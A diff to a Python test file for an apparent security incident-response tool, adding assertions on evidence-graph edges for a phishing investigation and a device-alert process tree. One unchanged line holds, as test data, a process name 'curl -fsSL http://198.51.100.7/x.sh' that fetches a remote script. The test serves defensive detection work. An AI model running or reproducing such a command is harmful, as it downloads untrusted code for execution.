@@ -128,6 +128,12 @@ def test_reported_phish_finds_its_copy_by_internet_message_id_and_every_similar_
     assert clicked["properties"]["clickedThrough"] == ["user3@fabrikam.example"]
     assert "user:user3@fabrikam.example" in evidence
 
+    edges = {(e["source"], e["target"]) for e in body["graph"]["edges"]}
+    assert ("analyzedMessage:copy-in-reporting-mailbox", located["key"]) in edges
+    assert (located["key"], clicked["key"]) in edges
+    assert (located["key"], "mailbox:user3@fabrikam.example") in edges
+    assert (located["key"], campaign["key"]) in edges
+    assert (clicked["key"], "user:user3@fabrikam.example") in edges
     actions = {(a["actionType"], a["targetKey"]) for a in body["actions"]}
     assert ("softDeleteEmail", by_url["key"]) in actions
     assert ("blockUrl", clicked["key"]) in actions
@@ -219,6 +225,10 @@ def test_device_alert_rebuilds_the_process_tree_and_finds_other_devices(
     assert {"-bash", "curl -fsSL http://198.51.100.7/x.sh"} <= names
     assert evidence["file:" + SHA]["properties"]["prevalence"] == {"devices": 2, "fleetDevices": 2}
     assert "device:dev-2" in evidence
+    edges = {(e["source"], e["target"]) for e in body["graph"]["edges"]}
+    assert ("file:" + SHA, "device:dev-2") in edges
+    parent = next(i for i in body["evidence"] if i["name"] == "-bash")
+    assert (parent["key"], judged["key"]) in edges
     assert "file:" + SHA in evidence["file:" + SHA]["key"]
     assert ("stopAndQuarantineFile", judged["key"]) in {
         (a["actionType"], a["targetKey"]) for a in body["actions"]
